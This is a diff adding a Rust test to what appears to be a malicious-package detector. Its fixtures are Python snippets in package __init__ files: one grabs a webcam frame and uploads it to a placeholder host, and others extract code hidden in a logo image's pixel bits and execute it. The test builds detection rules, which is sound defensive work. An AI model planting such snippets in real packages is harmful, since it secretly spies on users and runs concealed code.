@@ -72,6 +72,19 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn camera_frames_and_hidden_image_data_are_sources() {
+        let camera = "import cv2, requests\ncam = cv2.VideoCapture(0)\nok, frame = cam.read()\n_, jpg = cv2.imencode('.jpg', frame)\nrequests.post('https://example.invalid/up', files={'f': jpg.tobytes()})\n";
+        assert!(max_severity("p/pkg/__init__.py", camera, "WH200") >= 0.7);
+        let stego = "import os\nfrom PIL import Image\nimg = Image.open(os.path.join(os.path.dirname(__file__), 'logo.png'))\nbits = ''.join(str(p[0] & 1) for p in img.getdata())\ncode = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))\nexec(code.decode())\n";
+        assert!(max_severity("p/pkg/__init__.py", stego, "WH110") >= 0.8);
+        let revealed = "from stegano import lsb\nexec(lsb.reveal('logo.png'))\n";
+        assert!(max_severity("p/pkg/__init__.py", revealed, "WH110") >= 0.8);
+        // Pixels counted, not run.
+        let histogram = "from PIL import Image\ncounts = {}\nfor p in Image.open('a.png').getdata():\n    counts[p] = counts.get(p, 0) + 1\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", histogram, "WH110"), 0.0);
+    }
+
     use crate::rules::testing::{findings, max_severity};
 
     #[test]
